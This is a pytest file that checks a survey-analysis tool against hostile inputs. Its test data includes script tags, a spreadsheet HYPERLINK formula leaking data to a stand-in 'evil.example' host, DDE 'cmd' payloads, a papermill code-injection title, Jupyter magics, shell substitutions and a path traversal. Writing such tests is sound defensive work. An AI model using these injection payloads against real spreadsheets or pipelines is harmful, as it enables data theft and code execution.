"""Hostile text: HTML and script in labels and free text, spreadsheet formulas, patsy
formula payloads in wave names, group labels and column names, papermill parameter
injection in titles, shell characters in programme and cohort labels.

Nothing may run (no ``PWNED`` file, checked by the harness for every case), free text
never reaches an output, and no CSV output cell starts a spreadsheet formula.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from _hostile import (
    HEADER,
    PAYLOAD_PATSY,
    PAYLOAD_PATSY_Q,
    SCRIPT,
    Case,
    Project,
    Result,
    cli,
    default_rows,
    params,
    run_case,
)

FULL = {"rows_read": 12, "rows_kept": 12, "rows_quarantined": 0}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
DDE = "=cmd|' /C calc'!A0"


def extra_column(name: str, value: str, *, declare: str | None = None) -> Any:
    """Both exports gain column ``name`` holding ``value`` in every row."""

    def build(p: Project) -> None:
        for wave in ("pre", "post"):
            rows = [[*r, value] for r in default_rows(wave)]
            p.csv(f"exports/{wave}.csv", [*HEADER, name], rows)
        if declare == "drop":
            p.config["columns"]["drop"] = [name]
        elif declare == "covariate":
            p.config["columns"]["covariates"] = [name]
        elif declare == "meta":
            p.config["columns"]["meta"] = [name]

    return build


def item_cell(value: str) -> Any:
    def build(p: Project) -> None:
        rows = default_rows("pre")
        rows[1][4] = value
        p.csv("exports/pre.csv", HEADER, rows)

    return build


def id_cell(value: str) -> Any:
    def build(p: Project) -> None:
        rows = default_rows("pre")
        rows[1][0] = value
        p.csv("exports/pre.csv", HEADER, rows)

    return build


def group_label(label: str, *, as_control: bool = True) -> Any:
    def build(p: Project) -> None:
        for wave in ("pre", "post"):
            rows = default_rows(wave)
            for r in rows:
                if r[1] == "comparison":
                    r[1] = label
            p.csv(f"exports/{wave}.csv", HEADER, rows)
        if as_control:
            p.config["analysis"]["group"]["control"] = label

    return build


def wave_name(name: str) -> Any:
    def build(p: Project) -> None:
        p.source(0, wave=name)
        p.config["analysis"]["pre"] = name

    return build


def column_name(name: str, *, role: str = "covariate") -> Any:
    def build(p: Project) -> None:
        if role == "item":
            header = [*HEADER[:3], name, *HEADER[4:]]
            for wave in ("pre", "post"):
                p.csv(f"exports/{wave}.csv", header, default_rows(wave))
            p.config["instruments"]["who5"] = {"items": {"who5_1": name}}
        else:
            extra_column(name, "1", declare=role)(p)

    return build


def config_value(key: str, value: str) -> Any:
    def build(p: Project) -> None:
        if key in ("programme", "cohort"):  # a study the store would take
            p.config.update(programme="peer", cohort="2025", year=2025)
        p.config[key] = value

    return build


def with_store(p: Project) -> None:
    p.args = ["--out", str(p.out), "--store", str(p.tmp / "store")]


PAPERMILL_TITLE = "Cohort'\nimport os; os.system('touch PWNED')\n#"
SHELL = ["peer; touch PWNED", "$(touch PWNED)", "`touch PWNED`", "a|b&c>d"]

CASES = [
    # HTML and script
    Case("script_in_free_text", extra_column("comments", SCRIPT), counts=FULL, forbidden=(SCRIPT,)),
    Case(
        "script_in_dropped_column",
        extra_column("notes", SCRIPT, declare="drop"),
        counts=FULL,
        forbidden=(SCRIPT,),
    ),
    Case("script_in_meta_column", extra_column("browser", SCRIPT, declare="meta"), counts=FULL),
    Case(
        "script_in_column_name",
        extra_column(SCRIPT, "1"),
        counts=FULL,
        forbidden_text=("<script>",),
    ),
    Case("script_in_group_label", group_label(SCRIPT), counts=FULL),
    Case(
        "script_as_answer",
        item_cell(SCRIPT),
        counts={**FULL, "answers_quarantined": 1},
    ),
    Case("script_in_id", id_cell(SCRIPT), counts=FULL),
    Case("script_in_title", config_value("title", SCRIPT), command="validate", exit=0),
    Case(
        "html_entities_and_rtl_in_label",
        group_label("comp&amp;arison\u202e<b>"),
        counts=FULL,
    ),
    Case("huge_group_label", group_label("c" * 100_000), counts=FULL),
    # spreadsheet formulas
    Case(
        "hyperlink_in_free_text",
        extra_column("comments", HYPERLINK),
        counts=FULL,
        forbidden=("HYPERLINK",),
    ),
    Case(
        "hyperlink_as_answer",
        item_cell(HYPERLINK),
        counts={**FULL, "answers_quarantined": 1},
    ),
    Case("dde_as_answer", item_cell(DDE), counts={**FULL, "answers_quarantined": 1}),
    Case(
        "plus_formula_as_answer",
        item_cell("+1+cmd|' /C calc'!A0"),
        counts={**FULL, "answers_quarantined": 1},
    ),
    Case(
        "minus_formula_as_answer",
        item_cell("-2+3+cmd|' /C calc'!A0"),
        counts={**FULL, "answers_quarantined": 1},
    ),
    Case(
        "at_formula_as_answer",
        item_cell("@SUM(1+9)*cmd|' /C calc'!A0"),
        counts={**FULL, "answers_quarantined": 1},
    ),
    Case("tab_formula_as_answer", item_cell("\t=1+1"), counts={**FULL, "answers_quarantined": 1}),
    Case("hyperlink_in_id", id_cell(HYPERLINK), counts=FULL),
    Case("hyperlink_in_group_label", group_label(HYPERLINK), counts=FULL),
    Case(
        "hyperlink_as_wave_name",
        wave_name(HYPERLINK),
        counts=FULL,
    ),
    Case("hyperlink_as_column_name", extra_column(HYPERLINK, "x"), counts=FULL),
    # patsy formula payloads (ingest: accepted, nothing runs; the report cases are below)
    Case("patsy_wave_name", wave_name(PAYLOAD_PATSY), counts={**FULL, "linked_pairs": 6}),
    Case("patsy_control_label", group_label(PAYLOAD_PATSY), counts=FULL),
    Case(
        "patsy_treated_label",
        lambda p: (
            group_label(PAYLOAD_PATSY_Q, as_control=False)(p),
            p.config["analysis"]["group"].update(treated=PAYLOAD_PATSY_Q, control="mentored"),
        ),
        counts=FULL,
    ),
    Case("patsy_covariate_column", column_name(PAYLOAD_PATSY_Q), counts=FULL),
    Case("patsy_item_column", column_name(PAYLOAD_PATSY_Q, role="item"), counts=FULL),
    # papermill / Jupyter parameters
    Case("papermill_title", config_value("title", PAPERMILL_TITLE), counts=FULL),
    Case("jupyter_magic_title", config_value("title", "!touch PWNED\n%run -i x"), counts=FULL),
    # shell characters in labels that name folders and store partitions
    *[
        Case(
            f"shell_in_{key}_{i}",
            config_value(key, value),
            command="validate",
            exit=2,
            names=(key,),
        )
        for key in ("programme", "cohort")
        for i, value in enumerate(SHELL[:2])
    ],
    Case(
        "shell_in_programme_ingest_writes_nothing",
        lambda p: (config_value("programme", SHELL[2])(p), with_store(p)),
        exit=2,
        names=("programme",),
    ),
    Case(
        "traversal_in_programme",
        lambda p: p.config.update(programme="../../../etc", cohort="2025"),
        command="validate",
        exit=2,
        names=("programme",),
    ),
]


@pytest.mark.parametrize("case", params(CASES))
def test_hostile_injection(
    case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    run_case(case, tmp_path, capsys, monkeypatch)


# --------------------------------------------------------------------------- reports (slow)


def report_project(tmp: Path, edit: Any) -> Project:
    """A study big enough to report (30 students, both groups), with ``edit`` applied."""
    p = Project(tmp)
    for wave in ("pre", "post"):
        p.csv(f"exports/{wave}.csv", HEADER, default_rows(wave, n=30))
    p.config["disclosure"] = {"threshold": 3}
    edit(p)
    p.materialise()
    (p.root / "data").mkdir()  # the project root: processed data and the store go here
    return p


def run_report(p: Project, capsys: Any, monkeypatch: pytest.MonkeyPatch) -> Result:
    monkeypatch.setenv("MENTOREVAL_KEY_FILE", str(p.key))
    monkeypatch.setenv("HOME", str(p.tmp / "home"))
    monkeypatch.chdir(p.tmp / "cwd")
    code, out, err = cli(
        ["report", str(p.study_file), "--out", str(p.tmp / "report"), "--no-pdf"], capsys
    )
    return Result(Case("report"), p, code, out, err)


def absolute(payload: str, tmp: Path) -> str:
    return payload.replace("touch PWNED", f"touch {tmp}/PWNED")


@pytest.mark.slow
# In-process the test's "warnings are errors" would turn matplotlib's layout warning for a
# multi-line title into a failure the command line never has.
@pytest.mark.filterwarnings("default::UserWarning")
@pytest.mark.parametrize(
    "where",
    [
        pytest.param("wave", id="patsy_wave_name"),
        pytest.param("control", id="patsy_control_label"),
        pytest.param("title", id="papermill_title"),
    ],
)
def test_report_runs_no_label(
    where: str, tmp_path: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 20: a wave name or a control-group label made ``report`` run Python through
    patsy; a title must not reach the notebook as code. The report is written, and
    nothing ran."""

    def edit(p: Project) -> None:
        if where == "wave":
            wave_name(absolute(PAYLOAD_PATSY, tmp_path))(p)
        elif where == "control":
            rows = {w: default_rows(w, n=30) for w in ("pre", "post")}
            label = absolute(PAYLOAD_PATSY, tmp_path)
            for wave, rs in rows.items():
                for r in rs:
                    r[1] = label if r[1] == "comparison" else r[1]
                p.csv(f"exports/{wave}.csv", HEADER, rs)
            p.config["analysis"]["group"]["control"] = label
        else:
            p.config["title"] = absolute(PAPERMILL_TITLE, tmp_path)

    p = report_project(tmp_path, edit)
    res = run_report(p, capsys, monkeypatch)
    assert not list(tmp_path.rglob("PWNED")), "a label ran as code"
    assert res.code == 0, res.text
    assert "Traceback" not in res.text
    assert (tmp_path / "report" / "cohort_report.html").is_file()
    html = (tmp_path / "report" / "cohort_report.html").read_text(encoding="utf-8")
    for sid in p.ids:
        assert sid not in html
